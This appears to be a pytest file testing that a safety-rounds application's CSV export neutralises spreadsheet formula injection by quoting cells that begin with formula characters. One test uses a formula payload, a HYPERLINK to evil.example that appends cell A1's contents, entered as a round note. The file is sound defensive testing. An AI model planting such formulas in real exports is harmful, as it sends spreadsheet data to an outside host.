"""CSV exports neutralise cells a spreadsheet would run as a formula (OWASP)."""

from __future__ import annotations

import csv
import io

import pytest

from safetyops.core.csv_export import SafeWriter, safe_cell
from tests.rounds.test_rounds import result, start


@pytest.mark.parametrize("text", ['=HYPERLINK("http://x")', "+1+1", "-2+3", "@SUM(A1)", "\tx"])
def test_formula_starts_get_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Door 3 propped", "", 42, -5, None, "a=b"])
def test_other_values_are_untouched(value):
    assert safe_cell(value) == value


def test_writer_quotes_only_formula_cells():
    out = io.StringIO()
    SafeWriter(out).writerow(["=1+1", "ok", -3])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=1+1", "ok", "-3"]


def test_a_note_typed_on_a_tablet_cannot_become_a_formula(client, two_campuses, plan, token_for):
    client.login(two_campuses["officer_a"])
    round_ = start(client, plan.id)
    note = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    client.post_json(
        f"/api/v1/rounds/{round_['id']}/results",
        result(plan.stops[0].checkpoint_id, "problem", finding_kind="other", note=note),
    )
    export = client.app.test_client().get(
        "/exports/results.csv?from=2026-01-01&to=2026-12-31",
        headers=token_for(two_campuses["admin"]),
    )
    assert export.status_code == 200
    rows = list(csv.DictReader(io.StringIO(export.get_data(as_text=True))))
    notes = [row["note"] for row in rows if row.get("note")]
    assert notes == ["'" + note]
